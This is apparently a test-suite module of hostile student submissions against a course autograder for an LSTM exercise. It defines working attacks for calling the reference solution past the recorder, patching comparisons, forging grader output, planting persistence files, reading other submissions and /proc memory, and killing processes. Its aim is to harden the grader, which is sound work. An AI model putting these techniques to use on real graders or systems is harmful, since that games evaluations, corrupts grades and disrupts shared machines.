"""The hostile submissions: what each one does, and how it is written into a batch folder.

Every attack starts from the generated exercise of ``hw05_lstm`` (all four functions raise
``NotImplementedError``: it scores zero) and rewrites the student's cells, the way a clever
student would, to get points without writing the LSTM: by calling the course's reference
``course_lib.cells.lstm_step`` past the grader's recorder, by patching what compares, by
forging the grader's answer line, by writing the grader's output files, by killing or hanging
things, or by the shape of the submission itself (stored outputs, names, extra files, links).

Placeholders in the sources are replaced when a batch is written: ``__OUT__`` (the grader's
output folder), ``__ROOT__`` (the course's checkout), ``__TOKEN__`` (a random word that tags
every process and file an attack creates, so the test can find survivors), ``__CANARY__``
(a folder that only root may write, where a payload running as root would leave a mark).

An attack's own observations travel back the only way a student's words do: as the error
message of ``half_life`` (``EVIDENCE<<{json}>>``), which ``feedback.md`` quotes. That half
scores zero in the exercise anyway, so the evidence costs the attacker nothing.
"""

from __future__ import annotations

import contextlib
import copy
import io
import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field

import nbformat
import numpy as np

from course_lib import cells
from course_lib.grading import hw05_lstm

# ------------------------------------------------------------------------------------------
# Pieces shared by the attacks' sources
# ------------------------------------------------------------------------------------------

#: Evidence recorder; kept tiny because the message that carries it is cut at 300 characters.
HELPERS = r'''
import json as _j
import os as _o
import sys as _s

_EV = globals().setdefault("_EV", {})


def _ev(key, value):
    _EV[key] = value if isinstance(value, (bool, int, float)) or value is None else str(value)[:40]


def _ref(x_t, h_prev, c_prev, params):
    """What the cheater wants: the course's own answer (course_lib.cells.lstm_step)."""
    import course_lib.cells as _c
    return _c.lstm_step(x_t, h_prev, c_prev, params)


def _ancestors():
    pid, out = _o.getpid(), []
    for _ in range(10):
        try:
            with open(f"/proc/{pid}/stat") as fh:
                pid = int(fh.read().rsplit(")", 1)[1].split()[1])
        except Exception:
            break
        if pid <= 1:
            break
        out.append(pid)
    return out


def _cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as fh:
            return [a.decode(errors="replace") for a in fh.read().split(b"\0") if a]
    except Exception:
        return []


def _out_dirs():
    """The grader's --out folder, found as a student would: /proc, environment, guesses."""
    found = {__OUT__}
    pids = [p for p in _o.listdir("/proc") if p.isdigit()]
    for pid in pids:
        argv = _cmdline(pid)
        for k, a in enumerate(argv):
            if a == "--out" and k + 1 < len(argv):
                found.add(argv[k + 1])
            elif a.startswith("--out="):
                found.add(a[6:])
    for v in _o.environ.values():
        if "out" in v and _o.sep in v:
            found.add(v)
    d = _o.getcwd()
    while d != "/":
        d = _o.path.dirname(d)
        found.add(_o.path.join(d, "out"))
    return sorted(found)


def _fake_results(score=10.0):
    return _j.dumps({"score": score, "tests": [{"name": "lstm_step", "score": score,
                     "max_score": score, "output": "hacked __TOKEN__", "visibility": "visible"}]})


def _write_everything(tag):
    """Fake full marks in every results.json, feedback.md and gradebook.csv reachable."""
    wrote = 0
    for out in _out_dirs():
        targets = [_o.path.join(out, "gradebook.csv"), _o.path.join(out, "zz_fake_student",
                   "results.json")]
        try:
            targets += [_o.path.join(out, d, "results.json") for d in _o.listdir(out)]
            targets += [_o.path.join(out, d, "feedback.md") for d in _o.listdir(out)]
        except Exception:
            pass
        for t in targets:
            try:
                _o.makedirs(_o.path.dirname(t), exist_ok=True)
                with open(t, "w") as fh:
                    fh.write("student,score\nall,1000\n" if t.endswith(".csv") else
                             _fake_results() if t.endswith(".json") else "hacked __TOKEN__")
                wrote += 1
            except Exception:
                pass
    _ev(tag, wrote)
    return wrote
'''

#: Appended to the half_life cell: the evidence channel (half_life scores zero in the exercise).
EVIDENCE = r"""

def half_life(b_f):
    raise RuntimeError("EVIDENCE<<" + _j.dumps(_EV, sort_keys=True) + ">>")
"""

#: lstm_step that returns zeros of the right shapes (what a patched comparison would pass).
ZEROS = r"""
import numpy as _np


def lstm_step(x_t, h_prev, c_prev, params):
    z = _np.zeros(_np.shape(h_prev))
    return z, z.copy(), {k: z.copy() for k in "fiog"}
"""

#: A detached process, tagged with the token, that waits and then writes the output folder.
DAEMON = r'''
import subprocess as _sp
_late = r"""
import os, sys, time
os.setsid()
exec(sys.argv[2])
deadline = time.time() + 150
while time.time() < deadline:
    for out in _out_dirs():
        if os.path.exists(os.path.join(out, "gradebook.csv")):
            time.sleep(1.0)
            _write_everything("late")
    time.sleep(0.5)
"""
try:
    _sp.Popen([_s.executable, "-c", _late, "__TOKEN__", HELPERS_SRC], start_new_session=True,
              stdin=_sp.DEVNULL, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL, close_fds=True)
    _ev("daemon", "started")
except Exception as _e:
    _ev("daemon", repr(_e))
'''


@dataclass
class Attack:
    """One hostile submission.

    ``lstm``: source appended to the ``lstm_step`` cell (it may redefine ``lstm_step``);
    ``early``: a cell inserted after the first code cell; ``late``: a cell appended at the end;
    ``notebook``: builds the whole notebook (or raw bytes) instead; ``files``: extra files in
    the student's folder; ``folder``: the folder's name when it is itself the attack.
    ``gains``: what the attack would earn if it worked, for the report.
    """

    name: str
    what: str
    lstm: str = ""
    early: str = ""
    late: str = ""
    notebook: Callable | None = None
    files: dict[str, bytes] = field(default_factory=dict)
    folder: str | None = None
    needs_helpers_src: bool = False


# ------------------------------------------------------------------------------------------
# Calling the reference past the recorder
# ------------------------------------------------------------------------------------------

REFERENCE = [
    Attack(
        "ref_direct",
        "lstm_step calls course_lib.cells.lstm_step",
        lstm="""
from course_lib import cells as _cells


def lstm_step(x_t, h_prev, c_prev, params):
    return _cells.lstm_step(x_t, h_prev, c_prev, params)
""",
    ),
    Attack(
        "ref_same_object",
        "the name lstm_step bound to the reference itself (from course_lib.cells import …)",
        lstm="from course_lib.cells import lstm_step\n",
    ),
    Attack(
        "ref_alias",
        "an alias captured in an earlier cell, the module name deleted",
        early="import course_lib.cells as _m\n_ALIAS = _m.lstm_step\ndel _m\n",
        lstm="""
def lstm_step(x_t, h_prev, c_prev, params):
    return _ALIAS(x_t, h_prev, c_prev, params)
""",
    ),
    Attack(
        "ref_partial",
        "functools.partial of the reference",
        lstm="""
import functools as _ft
import course_lib.cells as _m

lstm_step = _ft.partial(_m.lstm_step)
""",
    ),
    Attack(
        "ref_code_copy",
        "a new function built from the reference's __code__ and globals",
        lstm="""
import types as _t
import course_lib.cells as _m

lstm_step = _t.FunctionType(_m.lstm_step.__code__, _m.__dict__, "lstm_step")
""",
    ),
    Attack(
        "ref_code_renamed",
        "the reference's code objects re-bound to a copy of its globals named __main__",
        lstm="""
import types as _t
import course_lib.cells as _m

_ns = dict(_m.__dict__)
_ns["__name__"] = "__main__"
for _k, _v in list(_ns.items()):
    if isinstance(_v, _t.FunctionType) and _v.__module__ == _m.__name__:
        _ns[_k] = _t.FunctionType(_v.__code__, _ns, _k, _v.__defaults__, _v.__closure__)
lstm_step = _ns["lstm_step"]
""",
    ),
    Attack(
        "ref_disguised_sigmoid",
        "the reference's code objects renamed 'sigmoid' (an allowed name) in course_lib.cells",
        lstm="""
import types as _t
import course_lib.cells as _m

_ns = dict(_m.__dict__)
for _k, _v in list(_ns.items()):
    if isinstance(_v, _t.FunctionType) and _v.__module__ == _m.__name__:
        _c = _v.__code__.replace(co_name="sigmoid", co_qualname="sigmoid")
        _ns[_k] = _t.FunctionType(_c, _ns, "sigmoid", _v.__defaults__, _v.__closure__)
lstm_step = _ns["lstm_step"]
""",
    ),
    Attack(
        "ref_module_copy",
        "course_lib/cells.py loaded a second time under another module name",
        lstm="""
import importlib.util as _iu
import course_lib.cells as _m

_spec = _iu.spec_from_file_location("mycells", _m.__file__)
_mine = _iu.module_from_spec(_spec)
_spec.loader.exec_module(_mine)
lstm_step = _mine.lstm_step
""",
    ),
    Attack(
        "ref_new_thread",
        "the reference called in a thread started by lstm_step",
        lstm="""
import threading as _th


def lstm_step(x_t, h_prev, c_prev, params):
    box = []
    t = _th.Thread(target=lambda: box.append(_ref(x_t, h_prev, c_prev, params)))
    t.start()
    t.join()
    return box[0]
""",
    ),
    Attack(
        "ref_old_thread",
        "the reference called by a worker thread started before the probe",
        lstm="""
import queue as _q
import threading as _th

_jobs, _done = _q.Queue(), _q.Queue()


def _worker():
    while True:
        args = _jobs.get()
        _done.put(_ref(*args))


_th.Thread(target=_worker, daemon=True).start()


def lstm_step(x_t, h_prev, c_prev, params):
    _jobs.put((x_t, h_prev, c_prev, params))
    return _done.get()
""",
    ),
    Attack(
        "ref_profile_off",
        "lstm_step switches the profiler off (sys.setprofile(None)) and calls the reference",
        lstm="""
import sys as _sy
import threading as _th


def lstm_step(x_t, h_prev, c_prev, params):
    _sy.setprofile(None)
    _th.setprofile(None)
    return _ref(x_t, h_prev, c_prev, params)
""",
    ),
    Attack(
        "ref_profile_suspend",
        "lstm_step saves sys.getprofile(), switches it off, calls the reference, puts it back",
        lstm="""
import sys as _sy


def lstm_step(x_t, h_prev, c_prev, params):
    rec = _sy.getprofile()
    _sy.setprofile(None)
    try:
        return _ref(x_t, h_prev, c_prev, params)
    finally:
        _sy.setprofile(rec)
""",
    ),
    Attack(
        "ref_seen_scrub",
        "lstm_step calls the reference, then deletes what the recorder wrote (its default arg)",
        lstm="""
import gc as _gc
import sys as _sy


def lstm_step(x_t, h_prev, c_prev, params):
    out = _ref(x_t, h_prev, c_prev, params)
    rec = _sy.getprofile()
    ok = ("course_lib.cells.sigmoid", "course_lib.cells.tanh")
    pools = list((rec.__defaults__ or ()) if rec else ()) + _gc.get_objects()
    for obj in pools:
        if type(obj) is list and obj and all(type(e) is str for e in obj):
            if any(e.startswith("course_lib.") and e not in ok for e in obj):
                keep = [e for e in obj if e in ok][:1]
                obj[:] = keep
    return out
""",
    ),
    Attack(
        "ref_fake_setprofile",
        "sys.setprofile/getprofile replaced beforehand: the recorder is never installed",
        early="""
import sys as _sy
import threading as _th
import types as _ty

_REAL_SET, _HELD = _sy.setprofile, [None]


def _fake_set(fn):
    _HELD[0] = fn
    if fn is not None:  # feed the recorder the canary call it waits for, nothing else
        frame = _ty.SimpleNamespace(f_globals={"__name__": "course_lib.cells"},
                                    f_code=_ty.SimpleNamespace(co_qualname="sigmoid"))
        fn(frame, "call", None)


_sy.setprofile = _fake_set
_sy.getprofile = lambda: _HELD[0]
_th.setprofile = lambda fn: None
""",
        lstm="""
def lstm_step(x_t, h_prev, c_prev, params):
    return _ref(x_t, h_prev, c_prev, params)
""",
    ),
    Attack(
        "ref_json_launder",
        "json.dumps patched beforehand to drop course_lib_calls from the probe's answer",
        early="""
import json as _js

_real_dumps = _js.dumps


def _clean(o):
    if isinstance(o, dict):
        return {k: ([] if k == "course_lib_calls" else _clean(v)) for k, v in o.items()}
    if isinstance(o, list):
        return [_clean(v) for v in o]
    return o


_js.dumps = lambda obj, *a, **k: _real_dumps(_clean(obj), *a, **k)
""",
        lstm="""
def lstm_step(x_t, h_prev, c_prev, params):
    return _ref(x_t, h_prev, c_prev, params)
""",
    ),
    Attack(
        "ref_stdout_rewrite",
        "sys.stdout replaced beforehand: the probe's answer line is rewritten on its way out",
        early="""
import re as _re
import sys as _sy


class _Rewrite:
    def __init__(self, inner):
        self.inner = inner

    def write(self, text):
        if "GRADER-" in text:
            text = _re.sub(r'"course_lib_calls": \\[[^\\]]*\\]', '"course_lib_calls": []', text)
        return self.inner.write(text)

    def __getattr__(self, name):
        return getattr(self.inner, name)


_sy.stdout = _Rewrite(_sy.stdout)
""",
        lstm="""
def lstm_step(x_t, h_prev, c_prev, params):
    return _ref(x_t, h_prev, c_prev, params)
""",
    ),
    Attack(
        "ref_forged_line",
        "lstm_step reads the nonce from the probe's code, prints a forged answer line and "
        "filters the probe's own line out of stdout",
        lstm="""
import sys as _sy


def _probe_frame():
    import re

    f = _sy._getframe(1)
    while f is not None:
        for c in f.f_code.co_consts:
            m = re.search(r"GRADER-[0-9a-f]+", c) if isinstance(c, str) else None
            if m:
                return m.group(0), f
        f = f.f_back
    return None, None


class _Drop:
    def __init__(self, inner, nonce):
        self.inner, self.nonce = inner, nonce

    def write(self, text):
        return self.inner.write(text.replace(self.nonce, "dropped"))

    def __getattr__(self, name):
        return getattr(self.inner, name)


def lstm_step(x_t, h_prev, c_prev, params):
    nonce, frame = _probe_frame()
    _ev("nonce", bool(nonce))
    if nonce is None or isinstance(_sy.stdout, _Drop):
        return _ref(x_t, h_prev, c_prev, params)
    from course_lib.grading.common import decode, encode
    outs = []
    for call in frame.f_locals.get("_calls") or []:
        value = _ref(*[decode(a) for a in call["args"]])
        outs.append({"ok": True, "value": encode(value), "seconds": 0.01,
                     "course_lib_calls": []})
    line = _j.dumps({"tampered": False, "outcomes": outs})
    _sy.stdout.write("\\n" + nonce + " " + line + "\\n")
    _sy.stdout.flush()
    _sy.stdout = _Drop(_sy.stdout, nonce)
    return _ref(x_t, h_prev, c_prev, params)
""",
    ),
    Attack(
        "ref_frame_forge",
        "lstm_step puts forged outcomes (reference values, no course_lib calls) first in the "
        "probe's own answer, reached through the caller's frame",
        lstm="""
import sys as _sy


def lstm_step(x_t, h_prev, c_prev, params):
    f = _sy._getframe(1)
    while f is not None and "_answer" not in f.f_locals:
        f = f.f_back
    if f is not None and not _EV.get("forged"):
        from course_lib.grading.common import decode, encode
        _EV["forged"] = True
        answer = f.f_locals["_answer"]
        for call in f.f_locals["_calls"]:
            value = _ref(*[decode(a) for a in call["args"]])
            answer["outcomes"].append({"ok": True, "value": encode(value), "seconds": 0.01,
                                       "course_lib_calls": []})
    import numpy as _np
    z = _np.zeros(_np.shape(h_prev))
    return z, z, {k: z for k in "fiog"}
""",
    ),
    Attack(
        "ref_shadow_builtins",
        "a global named sorted (the probe looks builtins up in the notebook's globals) "
        "that empties the list of course_lib calls",
        early="def sorted(iterable, *a, **k):\n    return []\n",
        lstm="""
def lstm_step(x_t, h_prev, c_prev, params):
    return _ref(x_t, h_prev, c_prev, params)
""",
    ),
    Attack(
        "ref_guessed_nonce",
        "lstm_step prints a thousand answer lines with guessed nonces (reference values, no "
        "course_lib calls), then answers with the reference",
        lstm="""
import secrets as _se


def lstm_step(x_t, h_prev, c_prev, params):
    from course_lib.grading.common import encode
    out = _ref(x_t, h_prev, c_prev, params)
    fake = {"ok": True, "value": encode(out), "seconds": 0.01, "course_lib_calls": []}
    line = _j.dumps({"tampered": False, "outcomes": [fake] * 3})
    for _ in range(1000):
        print("GRADER-" + _se.token_hex(16) + " " + line)
    return out
""",
    ),
    Attack(
        "solution_loaded",
        "the last cell loads the published solution's code from the course tree at run time "
        "(the submitted cells hold no solution code for the plagiarism signal to see)",
        late="""
import json as _js

with open(__ROOT__ + "/solutions/hw05_lstm.ipynb") as _fh:
    _sol = _js.load(_fh)
for _c in _sol["cells"]:
    _src = "".join(_c["source"])
    if _c["cell_type"] == "code" and _src.startswith(("import", "from", "def")):
        exec(_src, globals())
""",
    ),
    Attack(
        "ref_subprocess",
        "lstm_step runs the reference in a child python process (plain JSON through a pipe; "
        "no course_lib code runs in the kernel itself)",
        lstm="""
import subprocess as _sp

import numpy as _np

_CHILD = (
    "import json, sys\\n"
    "import numpy as np\\n"
    "from course_lib.cells import lstm_step\\n"
    "x, h, c, p = json.load(sys.stdin)\\n"
    "p = {k: np.array(v) for k, v in p.items()}\\n"
    "ht, ct, g = lstm_step(np.array(x), np.array(h), np.array(c), p)\\n"
    "print(json.dumps([ht.tolist(), ct.tolist(), {k: v.tolist() for k, v in g.items()}]))\\n"
)


def lstm_step(x_t, h_prev, c_prev, params):
    data = _j.dumps([x_t.tolist(), h_prev.tolist(), c_prev.tolist(),
                     {k: v.tolist() for k, v in params.items()}])
    r = _sp.run([_s.executable, "-c", _CHILD], input=data, capture_output=True, text=True)
    h, c, g = _j.loads(r.stdout)
    return _np.array(h), _np.array(c), {k: _np.array(v) for k, v in g.items()}
""",
    ),
    Attack(
        "ref_fork",
        "lstm_step forks; the child switches the profiler off, calls the reference and sends "
        "plain JSON through a pipe",
        lstm="""
import numpy as _np


def lstm_step(x_t, h_prev, c_prev, params):
    r, w = _o.pipe()
    pid = _o.fork()
    if pid == 0:
        _s.setprofile(None)
        h, c, g = _ref(x_t, h_prev, c_prev, params)
        out = [h.tolist(), c.tolist(), {k: v.tolist() for k, v in g.items()}]
        _o.write(w, _j.dumps(out).encode())
        _o._exit(0)
    _o.close(w)
    chunks = []
    while True:
        b = _o.read(r, 1 << 16)
        if not b:
            break
        chunks.append(b)
    _o.waitpid(pid, 0)
    h, c, g = _j.loads(b"".join(chunks))
    return _np.array(h), _np.array(c), {k: _np.array(v) for k, v in g.items()}
""",
    ),
    Attack(
        "ref_source_exec",
        "the reference's source text executed under another file name (copying, by code)",
        lstm="""
import inspect as _ins
import course_lib.cells as _m

_ns = {"__name__": "student"}
exec(compile(_ins.getsource(_m), "student.py", "exec"), _ns)
lstm_step = _ns["lstm_step"]
""",
    ),
    Attack(
        "ref_gate_analysis",
        "another course_lib module that computes the same step (gate_analysis)",
        lstm="""
from course_lib import gate_analysis as _ga


def lstm_step(x_t, h_prev, c_prev, params):
    t = _ga.lstm_terms(x_t, h_prev, c_prev, params)
    return t["h"], t["c"], {k: t[k] for k in "fiog"}
""",
    ),
]

# ------------------------------------------------------------------------------------------
# Patching what compares, objects that equal anything, malformed answers
# ------------------------------------------------------------------------------------------

PATCHING = [
    Attack(
        "patch_checks",
        "the public checks, diagnosis, Verdict and print_verdicts patched to always pass",
        early="""
import course_lib.grading.common as _gc
import course_lib.grading.diagnose as _gd
import course_lib.grading.hw05_lstm as _gh

_gd.close = lambda *a, **k: True
_gh.close = lambda *a, **k: True
_gc.Verdict.__post_init__ = lambda self: setattr(self, "fraction", 1.0)
for _name in dir(_gh):
    if _name.startswith(("check_", "judge_", "diagnose_")):
        setattr(_gh, _name, lambda *a, **k: True)
check_lstm_step = check_init_lstm_params = check_memory_left = check_half_life = (
    lambda *a, **k: print("all passed") or True
)
""",
        lstm=ZEROS,
    ),
    Attack(
        "patch_numpy",
        "numpy's comparisons (allclose, isclose, array_equal, all, testing.*) patched to pass",
        early="""
import math as _ma
import numpy as _np

for _name in ("allclose", "isclose", "array_equal", "array_equiv", "all", "any"):
    setattr(_np, _name, lambda *a, **k: True)
for _name in dir(_np.testing):
    if _name.startswith("assert"):
        setattr(_np.testing, _name, lambda *a, **k: None)
_ma.isclose = lambda *a, **k: True
""",
        lstm=ZEROS,
    ),
    Attack(
        "eq_always",
        "returns objects whose == is always True (and whose - gives 0)",
        lstm="""
class _Any:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __sub__(self, other):
        return 0.0

    __rsub__ = __sub__

    def __abs__(self):
        return 0.0

    def __le__(self, other):
        return True

    __lt__ = __ge__ = __gt__ = __le__
    __hash__ = object.__hash__


def lstm_step(x_t, h_prev, c_prev, params):
    return _Any(), _Any(), {k: _Any() for k in "fiog"}
""",
    ),
    Attack(
        "eq_subclasses",
        "a float subclass, an ndarray subclass and a dict subclass that equal anything",
        lstm="""
import numpy as _np


class _F(float):
    __eq__ = lambda self, o: True
    __hash__ = float.__hash__


class _A(_np.ndarray):
    def __eq__(self, o):
        return _np.ones(self.shape, bool)

    def __sub__(self, o):
        return _np.zeros(self.shape)

    __rsub__ = __sub__

    def __array_ufunc__(self, ufunc, method, *inputs, **kw):
        return _np.zeros(self.shape)


class _D(dict):
    def __getitem__(self, k):
        return _A(self.get("shape", (1, 1)))

    __eq__ = lambda self, o: True


def lstm_step(x_t, h_prev, c_prev, params):
    shape = _np.shape(h_prev)
    g = _D(shape=shape, f=_A(shape), i=_A(shape), o=_A(shape), g=_A(shape))
    return _A(shape), [[_F(0.0)] * shape[1]] * shape[0], g
""",
    ),
    Attack(
        "eq_array_protocol",
        "objects with __array__ / __array_interface__ that turn into anything asked",
        lstm="""
import numpy as _np


class _Arr:
    def __init__(self, shape):
        self.shape = shape

    def __array__(self, dtype=None, copy=None):
        return _np.zeros(self.shape)

    def __len__(self):
        return self.shape[0]

    def __eq__(self, o):
        return True

    def tolist(self):
        return _np.zeros(self.shape).tolist()


def lstm_step(x_t, h_prev, c_prev, params):
    s = _np.shape(h_prev)
    return _Arr(s), _Arr(s), {k: _Arr(s) for k in "fiog"}
""",
    ),
    Attack(
        "eq_nan_inf",
        "arrays of the right shape full of NaN (h, gates) and inf (c): NaN compares False",
        lstm="""
import numpy as _np


def lstm_step(x_t, h_prev, c_prev, params):
    s = _np.shape(h_prev)
    nan = _np.full(s, _np.nan)
    return nan, _np.full(s, _np.inf), {k: nan.copy() for k in "fiog"}
""",
    ),
    Attack(
        "bad_plain_data",
        "the kernel's encode patched to answer malformed plain data (huge ints, empty, ragged)",
        early="""
import course_lib.grading.common as _gc


def _evil_encode(value, _depth=0):
    return [10**400, {"ndarray": [], "shape": [0]}, {"dict": {"f": {"ndarray": [[1, 2], [3]]},
            "i": {"ndarray": "nan"}, "o": {"ndarray": [[1e308, -1e308]], "shape": [1, 2]},
            "g": {"ndarray": [[0.0]], "shape": "x"}}}]


_gc.encode = _evil_encode
""",
        lstm=ZEROS,
    ),
    Attack(
        "deep_json",
        "json.dumps patched so the probe answers 100 000 nested lists (the grader's parser)",
        early="""
import json as _js

_js.dumps = lambda *a, **k: "[" * 100000 + "]" * 100000
""",
        lstm=ZEROS,
    ),
    Attack(
        "huge_answer",
        "lstm_step returns 10 million numbers (over the answer cap)",
        lstm="""
import numpy as _np


def lstm_step(x_t, h_prev, c_prev, params):
    big = _np.zeros((1000, 10000))
    return big, big, {k: big for k in "fiog"}
""",
    ),
    Attack(
        "mutate_inputs",
        "lstm_step zeroes the weights it was given and answers for zero weights",
        lstm="""
import numpy as _np


def lstm_step(x_t, h_prev, c_prev, params):
    for v in params.values():
        v[...] = 0.0
    half = _np.full(_np.shape(h_prev), 0.5)
    c = half * c_prev
    return half * _np.tanh(c), c, {"f": half, "i": half.copy(), "o": half.copy(),
                                   "g": _np.zeros_like(half)}
""",
    ),
    Attack(
        "peek_frames",
        "lstm_step walks the caller's frames and the heap for arrays that could be the answer",
        lstm="""
import gc as _gc
import inspect as _ins
import numpy as _np


def lstm_step(x_t, h_prev, c_prev, params):
    s = _np.shape(h_prev)
    seen = []
    for fi in _ins.stack()[1:]:
        seen += sorted(fi.frame.f_locals)
    _ev("frame_names", ",".join(n for n in seen if not n.startswith("__"))[:40])
    mine = {id(x_t), id(h_prev), id(c_prev), *map(id, params.values())}
    cands = [o for o in _gc.get_objects() if type(o) is _np.ndarray and o.shape == s
             and id(o) not in mine]
    _ev("heap_candidates", len(cands))
    pick = cands[:6] + [_np.zeros(s)] * 6
    return pick[0], pick[1], dict(zip("fiog", pick[2:6]))
""",
    ),
]

# ------------------------------------------------------------------------------------------
# The output folder, the course tree, other students
# ------------------------------------------------------------------------------------------

WRITING = [
    Attack(
        "write_outputs",
        "writes fake full marks into every results.json, feedback.md and gradebook.csv found",
        early='_write_everything("early")\n',
        lstm="""
def lstm_step(x_t, h_prev, c_prev, params):
    _write_everything("probe")
    raise NotImplementedError()
""",
    ),
    Attack(
        "late_daemon",
        "a detached process that outlives the kernel and rewrites the outputs once they exist",
        early=DAEMON,
        needs_helpers_src=True,
    ),
    Attack(
        "nondaemon_thread",
        "a non-daemon thread writing the outputs in a loop; SIGTERM ignored; kernel exit hangs",
        early="""
import signal as _sig
import threading as _th
import time as _ti

_sig.signal(_sig.SIGTERM, _sig.SIG_IGN)


def _loop():
    while True:
        _write_everything("thread")
        _ti.sleep(0.5)


_th.Thread(target=_loop, daemon=False).start()
""",
    ),
    Attack(
        "course_tree",
        "creates files in the course tree and opens its reference code for writing",
        early="""
_made = 0
for _d in ("", "course_lib", "course_lib/grading", "solutions", "tests"):
    _p = _o.path.join(__ROOT__, _d, "hostile-__TOKEN__.py")
    try:
        with open(_p, "w") as _fh:
            _fh.write("# hostile\\n")
        _made += 1
    except Exception:
        pass
_ev("tree_created", _made)
_rw = 0
for _f in ("course_lib/cells.py", "course_lib/grading/hw05_lstm.py"):
    try:
        open(_o.path.join(__ROOT__, _f), "r+").close()  # writable? (nothing is written)
        _rw += 1
    except Exception:
        pass
_ev("tree_writable", _rw)
""",
    ),
    Attack(
        "steal_others",
        "reads the other submissions (paths from the grader's command line) and runs theirs",
        lstm="""
def _steal():
    paths = []
    for pid in [p for p in _o.listdir("/proc") if p.isdigit()]:
        argv = _cmdline(pid)
        if "grade" in argv:
            paths += [a for a in argv if _o.sep in a and not a.startswith("-")]
    paths += [_o.path.dirname(__OUT__)]
    for base in paths:
        for dp, dn, fn in _o.walk(base):
            for f in fn:
                if not f.endswith(".ipynb"):
                    continue
                try:
                    with open(_o.path.join(dp, f)) as fh:
                        nb = _j.load(fh)
                except Exception:
                    continue
                for cell in nb.get("cells", []):
                    src = "".join(cell.get("source", ""))
                    if "def lstm_step(" in src and "NotImplementedError" not in src:
                        ns = {}
                        try:
                            exec(src, ns)
                            return ns["lstm_step"]
                        except Exception:
                            pass
    return None


def lstm_step(x_t, h_prev, c_prev, params):
    fn = _steal()
    _ev("stolen", fn is not None)
    if fn is None:
        raise NotImplementedError()
    return fn(x_t, h_prev, c_prev, params)
""",
    ),
    Attack(
        "read_grader",
        "reads the grader's memory and environment through /proc (mem, environ, fd)",
        early="""
_got = {}
for _pid in _ancestors() + [p for p in _o.listdir("/proc") if p.isdigit()][:400]:
    for _what in ("environ", "mem", "fd"):
        try:
            if _what == "fd":
                _o.listdir(f"/proc/{_pid}/fd")
            elif _what == "mem":
                with open(f"/proc/{_pid}/mem", "rb") as _fh:
                    _fh.seek(0x400000)
                    _fh.read(16)
            else:
                with open(f"/proc/{_pid}/environ", "rb") as _fh:
                    _fh.read(10)
            if str(_pid) != str(_o.getpid()):
                _got[_what] = _got.get(_what, 0) + 1
        except Exception:
            pass
_ev("proc_read", _j.dumps(_got))
_ev("uid", _o.getuid())
""",
    ),
    Attack(
        "persist_home",
        "IPython startup file, usercustomize and /tmp files that would sabotage later kernels",
        early="""
_evil = (
    "import os\\n"
    "if os.path.exists('hw05_lstm.ipynb') and '__TOKEN__' in open('hw05_lstm.ipynb').read():\\n"
    "    import numpy\\n"
    "    numpy.tanh = lambda x, *a, **k: x * 0.0\\n"
)
_spots = [
    _o.path.expanduser("~/.ipython/profile_default/startup/00-hostile.py"),
    _o.path.expanduser("~/.local/lib/python3.11/site-packages/usercustomize.py"),
    "/tmp/.ipython/profile_default/startup/00-hostile.py",
    "/tmp/hostile-__TOKEN__.py",
    "/dev/shm/hostile-__TOKEN__.py",
]
_n = 0
for _p in _spots:
    try:
        _o.makedirs(_o.path.dirname(_p), exist_ok=True)
        with open(_p, "w") as _fh:
            _fh.write(_evil)
        _n += 1
    except Exception:
        pass
_ev("persist_written", _n)
""",
    ),
]

# ------------------------------------------------------------------------------------------
# Exiting, killing, signalling, hanging, flooding
# ------------------------------------------------------------------------------------------

PROCESS = [
    Attack("exit_cell", "exit() in a cell", early="exit()\n"),
    Attack("sys_exit_cell", "sys.exit(0) in a cell", early="import sys\nsys.exit(0)\n"),
    Attack("os_exit_cell", "os._exit(0) in a cell", early="import os\nos._exit(0)\n"),
    Attack(
        "kill_self_cell",
        "os.kill(os.getpid(), 9) in a cell",
        early="import os\nos.kill(os.getpid(), 9)\n",
    ),
    Attack(
        "exit_in_probe",
        "lstm_step calls os._exit(0) while the grader waits for its answer",
        lstm="""
def lstm_step(x_t, h_prev, c_prev, params):
    _o._exit(0)
""",
    ),
    Attack(
        "kill_in_probe",
        "lstm_step kills its own kernel with SIGKILL",
        lstm="""
import signal as _sig


def lstm_step(x_t, h_prev, c_prev, params):
    _o.kill(_o.getpid(), _sig.SIGKILL)
""",
    ),
    Attack(
        "signal_grader",
        "SIGTERM/SIGKILL to the parent, its process group, every 'course.py grade', kill -1",
        lstm="""
import signal as _sig
import time as _ti


def lstm_step(x_t, h_prev, c_prev, params):
    sent = 0
    targets = _ancestors()
    for pid in [p for p in _o.listdir("/proc") if p.isdigit()]:
        argv = " ".join(_cmdline(pid))
        if "course.py" in argv or "pytest" in argv or "ipykernel" in argv:
            targets.append(int(pid))
    for pid in targets:
        if pid == _o.getpid():
            continue
        for sig in (_sig.SIGTERM, _sig.SIGKILL):
            try:
                _o.kill(pid, sig)
                sent += 1
            except Exception:
                pass
        try:
            _o.killpg(_o.getpgid(pid), _sig.SIGKILL)
            sent += 1
        except Exception:
            pass
    _ev("signals_sent", sent)
    if _o.geteuid() != 0:  # never as root: that would kill the whole machine
        _ti.sleep(1.0)
        try:
            _o.kill(-1, _sig.SIGKILL)
        except Exception:
            pass
    raise NotImplementedError()
""",
    ),
    Attack("forever_cell", "while True: pass in a cell", early="while True:\n    pass\n"),
    Attack(
        "forever_in_probe",
        "lstm_step loops forever with SIGINT and SIGTERM ignored",
        lstm="""
import signal as _sig


def lstm_step(x_t, h_prev, c_prev, params):
    _sig.signal(_sig.SIGINT, _sig.SIG_IGN)
    _sig.signal(_sig.SIGTERM, _sig.SIG_IGN)
    while True:
        pass
""",
    ),
    Attack(
        "pid_hopper",
        "a process that forks and exits in a loop (a moving pid) and then kills the next "
        "kernel of its sandbox user",
        early="""
import subprocess as _sp
_hop = r'''
import os, signal, sys, time
os.setsid()
me = os.getuid()
end = time.time() + 120
n = 0
while time.time() < end:
    if os.fork():
        os._exit(0)
    n += 1
    if n % 200 == 0:
        for p in os.listdir("/proc"):
            if not p.isdigit() or int(p) == os.getpid():
                continue
            try:
                with open(f"/proc/{p}/status") as f:
                    uid = [int(x) for x in f.read().split("Uid:")[1].split()[:1]][0]
                with open(f"/proc/{p}/cmdline", "rb") as f:
                    cmd = f.read()
            except Exception:
                continue
            if uid == me and b"__TOKEN__" not in cmd and me != 0:
                try:
                    os.kill(int(p), signal.SIGKILL)
                except Exception:
                    pass
'''
try:
    _sp.Popen([_s.executable, "-c", _hop, "__TOKEN__"], start_new_session=True,
